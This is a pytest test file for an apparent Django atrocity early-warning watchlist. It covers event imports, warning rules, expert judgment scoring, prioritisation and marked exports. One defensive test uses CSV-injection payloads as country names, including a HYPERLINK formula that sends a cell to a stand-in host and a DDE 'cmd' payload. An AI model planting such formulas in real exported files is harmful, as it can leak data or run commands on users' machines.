"""Indicators and warnings, expert judgment, prioritisation, the map and exports (issue: watchlists)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse
from typer.testing import CliRunner

from lemkin.apps.audit.models import AuditEvent
from lemkin.apps.watchlist import indicators, judgment, tiers
from lemkin.apps.watchlist.models import (
    Country,
    EmergencyMeetingProposal,
    EventImport,
    Indicator,
    MonthlyEventCount,
    Outcome,
    RiskForecast,
    RiskRun,
    Warning,
    WarningRule,
    WarningStatus,
)
from lemkin.cli import app
from lemkin.core.warning.events import ACLED_COLUMNS, UCDP_GED_COLUMNS
from tests.core.warning.conftest import acled_row, ged_row, write_csv

runner = CliRunner()
AWL = "atrocities"


def ged_file(path: Path, deaths_by_month: dict[str, int], country: str = "Sudan", country_id: int = 625) -> Path:
    """One one-sided event a month in ``country`` with the given deaths (fictional rows, the GED layout)."""
    rows = [
        ged_row(
            n,
            country=country,
            country_id=country_id,
            best=deaths,
            deaths_civilians=deaths,
            year=int(month[:4]),
            date_start=f"{month}-15 00:00:00.000",
            date_end=f"{month}-15 00:00:00.000",
        )
        for n, (month, deaths) in enumerate(sorted(deaths_by_month.items()), start=1)
    ]
    return write_csv(path, UCDP_GED_COLUMNS, rows)


def sudan_indicator() -> Indicator:
    sudan = Country.objects.create(iso3="SDN", name="Sudan", ccode=625)
    return Indicator.objects.create(
        country=sudan,
        name="One-sided violence deaths (UCDP)",
        event_source="ucdp_ged",
        event_type="one_sided",
        measure="fatalities",
        created_by="ann",
    )


MONTHS = {"2023-01": 2, "2023-02": 3, "2023-03": 2, "2023-04": 40, "2023-05": 3, "2023-06": 60}


@pytest.mark.django_db
def test_an_event_import_aggregates_by_month_and_the_rule_fires_exactly_where_it_should(tmp_path: Path) -> None:
    indicator = sudan_indicator()
    WarningRule.objects.create(indicator=indicator, kind="threshold", parameters={"value": 40}, created_by="ann")
    result = runner.invoke(app, ["events", "import", str(ged_file(tmp_path / "ged.csv", MONTHS))])
    assert result.exit_code == 0, result.output
    assert MonthlyEventCount.objects.filter(country=indicator.country, type="one_sided").count() == 6
    assert sorted(f"{w.month:%Y-%m}" for w in Warning.objects.all()) == ["2023-04", "2023-06"]
    june = Warning.objects.get(month=dt.date(2023, 6, 1))
    assert june.previous is not None
    assert f"{june.previous.month:%Y-%m}" == "2023-04"
    item = EventImport.objects.get()
    assert (item.source, item.n_rows) == ("ucdp_ged", 6)
    assert AuditEvent.objects.filter(name="EventsImported").count() == 1


@pytest.mark.django_db
def test_a_bad_event_file_is_rejected_whole_with_every_problem_listed(tmp_path: Path) -> None:
    rows = [
        ged_row(1),
        ged_row(2, best=-4),
        ged_row(3, country="Atlantis", country_id=999),
        ged_row(4, date_start="2023-02-30 00:00:00.000"),
    ]
    path = write_csv(tmp_path / "bad.csv", UCDP_GED_COLUMNS, rows)
    result = runner.invoke(app, ["events", "import", str(path)])
    assert result.exit_code == 2
    text = " ".join(result.output.split())
    for expected in ("best", "Atlantis", "date_start", "nothing was imported"):
        assert expected in text
    assert not EventImport.objects.exists()
    assert not MonthlyEventCount.objects.exists()


@pytest.mark.django_db
def test_a_wrong_layout_names_the_missing_columns(tmp_path: Path) -> None:
    columns = [c for c in ACLED_COLUMNS if c != "fatalities"]
    path = write_csv(tmp_path / "acled.csv", columns, [{k: v for k, v in acled_row().items() if k in columns}])
    result = runner.invoke(app, ["events", "import", str(path)])
    assert result.exit_code == 2
    assert "fatalities" in result.output
    assert not MonthlyEventCount.objects.exists()


@pytest.mark.django_db
def test_drift_against_the_previous_vintage_stops_the_import_until_acknowledged(tmp_path: Path) -> None:
    history = {f"2022-{m:02d}": 3 for m in range(1, 13)}
    first = ged_file(tmp_path / "v1.csv", history)
    assert runner.invoke(app, ["events", "import", str(first)]).exit_code == 0
    revised = ged_file(tmp_path / "v2.csv", {**history, "2023-01": 900})
    refused = runner.invoke(app, ["events", "import", str(revised)])
    assert refused.exit_code == 2
    assert "--accept-drift" in refused.output
    assert EventImport.objects.count() == 1
    assert not MonthlyEventCount.objects.filter(month=dt.date(2023, 1, 1)).exists()
    accepted = runner.invoke(app, ["events", "import", str(revised), "--accept-drift"])
    assert accepted.exit_code == 0, accepted.output
    assert MonthlyEventCount.objects.get(month=dt.date(2023, 1, 1)).fatalities == 900
    assert EventImport.objects.order_by("-pk").first().drift


@pytest.mark.django_db
def test_a_country_with_rare_violence_is_still_checked_for_jumps(tmp_path: Path) -> None:
    """Months without events count as zeros: three violent months in a year are a history of twelve months."""
    rare = {"2022-01": 2, "2022-06": 1, "2022-12": 2}
    assert runner.invoke(app, ["events", "import", str(ged_file(tmp_path / "v1.csv", rare))]).exit_code == 0
    refused = runner.invoke(app, ["events", "import", str(ged_file(tmp_path / "v2.csv", {**rare, "2023-01": 40}))])
    assert refused.exit_code == 2
    text = " ".join(refused.output.split())
    assert "SDN/one_sided fatalities in 2023-01 is 40, far from its history (median 0 over 12 periods" in text
    assert EventImport.objects.count() == 1


@pytest.mark.django_db
def test_a_month_whose_events_vanished_is_reported(tmp_path: Path) -> None:
    """A month with events before and none in the new vintage is reported as revised to 0, not dropped silently."""
    history = {f"2022-{m:02d}": 3 for m in range(1, 13)}
    assert runner.invoke(app, ["events", "import", str(ged_file(tmp_path / "v1.csv", history))]).exit_code == 0
    del history["2022-05"]
    accepted = runner.invoke(app, ["events", "import", str(ged_file(tmp_path / "v2.csv", history))])
    assert accepted.exit_code == 0, accepted.output
    drift = EventImport.objects.order_by("-pk").first().drift
    assert "[info] SDN/one_sided fatalities in 2022-05: 3 revised to 0" in drift
    assert not MonthlyEventCount.objects.filter(month=dt.date(2022, 5, 1)).exists()


@pytest.mark.django_db
def test_a_warning_on_a_high_and_rising_country_proposes_an_emergency_meeting(tmp_path: Path) -> None:
    indicator = sudan_indicator()
    tiers.change_tier("ann", indicator.country, AWL, "high_and_rising", "field reports of massacres")
    indicators.add_rule("ann", indicator, "threshold", {"value": 40})
    indicators.import_events(ged_file(tmp_path / "ged.csv", MONTHS), "ann")
    proposals = EmergencyMeetingProposal.objects.filter(country=indicator.country)
    assert proposals.count() == 2
    assert all(p.warning.country == indicator.country for p in proposals)


@pytest.mark.django_db
def test_warnings_move_only_along_their_life_and_always_with_a_reason(tmp_path: Path) -> None:
    indicator = sudan_indicator()
    indicators.add_rule("ann", indicator, "threshold", {"value": 40})
    indicators.import_events(ged_file(tmp_path / "ged.csv", MONTHS), "ann")
    warning = Warning.objects.order_by("month").first()
    assert warning is not None
    with pytest.raises(indicators.IndicatorError, match="needs a reason"):
        indicators.move_warning("bob", warning, WarningStatus.ACKNOWLEDGED, "")
    indicators.move_warning("bob", warning, WarningStatus.UNDER_REVIEW, "asking the embassy")
    indicators.move_warning("bob", warning, WarningStatus.STOOD_DOWN, "a local dispute, not targeted killing")
    with pytest.raises(indicators.IndicatorError, match="stood down"):
        indicators.move_warning("bob", warning, WarningStatus.ACKNOWLEDGED, "again")
    warning.refresh_from_db()
    assert [(c.to_status, c.changed_by) for c in warning.history.all()] == [
        ("under_review", "bob"),
        ("stood_down", "bob"),
    ]


@pytest.mark.django_db
def test_surveillance_is_requested_only_for_high_and_rising_countries() -> None:
    country = Country.objects.create(iso3="XQU", name="Republic of Quelmar", is_exercise=True)
    start, end = dt.date(2026, 12, 1), dt.date(2027, 3, 1)
    with pytest.raises(indicators.IndicatorError, match="not high and rising"):
        indicators.request_surveillance("ann", country, "militia movements", start, end)
    tiers.change_tier("ann", country, AWL, "high_and_rising", "militias arming before the election")
    with pytest.raises(indicators.IndicatorError, match="end on or after"):
        indicators.request_surveillance("ann", country, "militia movements", end, start)
    request = indicators.request_surveillance("ann", country, "militia movements", start, end)
    indicators.move_surveillance("ann", request, "active", "tasked")
    with pytest.raises(indicators.IndicatorError, match="cannot become"):
        indicators.move_surveillance("ann", request, "requested", "again")


@pytest.mark.django_db
def test_the_indicator_page_shows_the_series_and_each_rule_s_track_record(
    tmp_path: Path, a_person: Any, client_for: Any
) -> None:
    indicator = sudan_indicator()
    indicators.add_rule("ann", indicator, "threshold", {"value": 40})
    indicators.import_events(ged_file(tmp_path / "ged.csv", MONTHS), "ann")
    page = client_for(a_person(roles=["analyst"])).get(reverse("watchlist:country-indicators", kwargs={"iso3": "SDN"}))
    body = page.content.decode()
    assert "<svg" in body
    assert "fires when the month&#x27;s value is at least 40" in body
    assert "Fired in 2 of 6 evaluated months" in body


def a_run(countries: dict[Country, float]) -> RiskRun:
    run = RiskRun.objects.create(
        created_by="test",
        model_name="best",
        model_resolved="blend",
        input_name="p.csv",
        input_sha256="0" * 64,
        data_vintage="2025",
        base_year=2024,
        train_first=1990,
        train_last=2022,
        n_train=1,
    )
    ranked = sorted(countries.items(), key=lambda kv: -kv[1])
    for rank, (country, risk) in enumerate(ranked, start=1):
        RiskForecast.objects.create(
            run=run, country=country, risk_2yr=risk, rank_2yr=rank, risk_1yr=risk / 2, rank_1yr=rank
        )
    return run


@pytest.mark.django_db
def test_expert_judgment_is_pooled_beside_the_model_and_both_are_scored(a_person: Any, client_for: Any) -> None:
    country = Country.objects.create(iso3="XVA", name="Republic of Varenia", is_exercise=True)
    calm = Country.objects.create(iso3="XTA", name="Federation of Tarvos", is_exercise=True)
    a_run({country: 0.30, calm: 0.02})
    ann, bob = a_person(roles=["analyst"], username="ann"), a_person(roles=["analyst"], username="bob")
    judgment.record_judgment(ann, country, 0.5, 2025, 2026, "militias mobilising")
    judgment.record_judgment(bob, country, 0.7, 2025, 2026, "hate radio on air")
    judgment.record_judgment(ann, calm, 0.01, 2025, 2026, "stable")
    with pytest.raises(judgment.JudgmentError, match="rationale"):
        judgment.record_judgment(bob, calm, 0.2, 2025, 2026, " ")
    page = client_for(ann).get(reverse("watchlist:country-judgments", kwargs={"iso3": "XVA"}), {"start": 2025})
    body = page.content.decode()
    assert 'data-testid="pooled">0.600<' in body
    assert 'data-testid="model">0.300<' in body
    judgment.record_outcome(ann, country, 2025, True, "coded from field reports")
    judgment.record_outcome(ann, calm, 2025, False, "coded from field reports")
    comparison = judgment.scores(ann, 2025, 2026)
    assert comparison.pool == pytest.approx(((0.6 - 1) ** 2 + 0.01**2) / 2)
    assert comparison.model == pytest.approx(((0.3 - 1) ** 2 + 0.02**2) / 2)
    assert comparison.better == "pool"


@pytest.mark.django_db
def test_prioritisation_respects_the_capacity_and_says_why(a_person: Any, client_for: Any) -> None:
    analyst = a_person(roles=["analyst"], username="ann")
    names = ["Varenia", "Ostrel", "Belzara", "Quelmar"]
    countries = [Country.objects.create(iso3=f"X{n[:2].upper()}", name=n, is_exercise=True) for n in names]
    a_run(dict(zip(countries, [0.3, 0.25, 0.2, 0.1], strict=True)))
    for country, influence in zip(countries, [1, 5, 4, 2], strict=True):
        tiers.change_tier(analyst, country, AWL, "moderate_concern", "listed for the test")
        judgment.score_priority(analyst, country, influence, 3, "embassy presence and aid")
    result = judgment.priorities(analyst, capacity=2, weights={"risk": 1, "influence": 1, "interests": 1})
    assert result.slate is not None
    assert len(result.slate.countries) == 2
    assert all(r.explanation for r in result.slate.ranking)
    page = client_for(analyst).get(reverse("watchlist:prioritisation"), {"capacity": 2}).content.decode()
    assert page.count("<td>yes</td>") == 2
    assert page.count("<td>no</td>") == 2
    refused = client_for(analyst).post(
        reverse("watchlist:prioritisation"), {"iso3": "XVA", "influence": 9, "interests": 1, "rationale": "x"}
    )
    assert refused.status_code == 302
    assert judgment.PriorityScore.objects.count() == 4


@pytest.mark.django_db
def test_the_map_colours_listed_countries_and_exports_carry_their_markings(a_person: Any, client_for: Any) -> None:
    analyst = a_person(roles=["analyst"], username="ann")
    sudan = Country.objects.create(iso3="SDN", name="Sudan", ccode=625)
    tiers.change_tier(analyst, sudan, AWL, "high_and_rising", "one-sided violence rising")
    client = client_for(analyst)
    page = client.get(reverse("watchlist:world-map")).content.decode()
    assert page.count("<path ") > 150
    assert 'fill="#b50909" stroke="#fff" stroke-width="0.4" data-iso="729"' in page
    export = client.get(reverse("watchlist:export"), {"format": "csv"}).content.decode().splitlines()
    assert export[0] == export[-1] == "# UNCLASSIFIED"
    assert export[1].startswith("marking,iso3,name,atrocities_tier")
    assert "(U),SDN,Sudan,high_and_rising" in export[2]
    data = client.get(reverse("watchlist:export"), {"format": "json"}).json()
    assert data["rows"][0]["marking"] == "UNCLASSIFIED"
    assert AuditEvent.objects.filter(name="WatchlistExported").count() == 2


@pytest.mark.django_db
@pytest.mark.parametrize("name", ['=HYPERLINK("http://example.invalid/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "@SUM(1)"])
def test_a_csv_export_never_hands_a_spreadsheet_a_formula(a_person: Any, client_for: Any, name: str) -> None:
    """A name from imported data that a spreadsheet would run (CSV injection) is exported as text."""
    Country.objects.create(iso3="XFO", name=name, is_exercise=True)
    client = client_for(a_person(roles=["analyst"], username="ann"))
    export = client.get(reverse("watchlist:export"), {"format": "csv"}).content.decode()
    (row,) = [r for r in csv.reader(io.StringIO(export)) if len(r) > 2 and r[1] == "XFO"]
    assert row[2] == "'" + name
    assert client.get(reverse("watchlist:export"), {"format": "json"}).json()["rows"][0]["name"] == name


@pytest.mark.django_db
def test_acled_exports_count_violence_against_civilians(tmp_path: Path) -> None:
    rows = [acled_row(n, event_date=f"2023-0{n}-10", year=2023, fatalities=n) for n in range(1, 4)]
    indicators.import_events(write_csv(tmp_path / "acled.csv", ACLED_COLUMNS, rows), "ann")
    counts = MonthlyEventCount.objects.filter(source="acled", type="violence_against_civilians").order_by("month")
    assert [(c.month.month, c.events, c.fatalities) for c in counts] == [(1, 1, 1), (2, 1, 2), (3, 1, 3)]
    assert not Outcome.objects.exists()


@pytest.mark.django_db
def test_an_analyst_retires_a_rule_with_a_reason_and_it_raises_no_more_warnings(
    tmp_path: Path, a_person: Any, client_for: Any
) -> None:
    indicator = sudan_indicator()
    rule = indicators.add_rule("ann", indicator, "threshold", {"value": 40})
    client = client_for(a_person(roles=["analyst"], username="ann"))
    url = reverse("watchlist:country-indicators", kwargs={"iso3": "SDN"})
    client.post(url, {"action": "retire", "rule": rule.pk, "reason": ""})
    rule.refresh_from_db()
    assert rule.active
    client.post(url, {"action": "retire", "rule": rule.pk, "reason": "3 false alarms in 4 firings"})
    rule.refresh_from_db()
    assert (rule.active, rule.retired_reason) == (False, "3 false alarms in 4 firings")
    indicators.import_events(ged_file(tmp_path / "ged.csv", MONTHS), "ann")
    assert not Warning.objects.exists()
    assert AuditEvent.objects.filter(name="WarningRuleRetired").count() == 1
    assert "retired: 3 false alarms in 4 firings" in client.get(url).content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("name", "n" * 201, "name: Ensure this value has at most 200 characters"),
        ("event_type", "t" * 41, "event_type: Ensure this value has at most 40 characters"),
        ("measure", "deaths", "measure: 'deaths' is not one of events, fatalities"),
        ("event_source", "gdelt", "event_source: 'gdelt' is not one of ucdp_ged, acled"),
    ],
)
def test_a_bad_indicator_is_refused_naming_the_field_and_nothing_is_written(
    a_person: Any, client_for: Any, field: str, value: str, message: str
) -> None:
    """Every field is checked before anything is written, on either database (PostgreSQL would otherwise refuse
    an over-long value with a server error)."""
    Country.objects.create(iso3="SDN", name="Sudan", ccode=625)
    client = client_for(a_person(roles=["analyst"], username="ann"))
    url = reverse("watchlist:country-indicators", kwargs={"iso3": "SDN"})
    body = {"action": "indicator", "name": "killings reported", "event_source": "ucdp_ged", "measure": "events"}
    page = client.post(url, body | {field: value}, follow=True)
    assert page.status_code == 200
    assert message in page.content.decode().replace("&#x27;", "'")
    assert not Indicator.objects.exists()
    assert client.post(url, body, follow=True).status_code == 200
    assert Indicator.objects.count() == 1
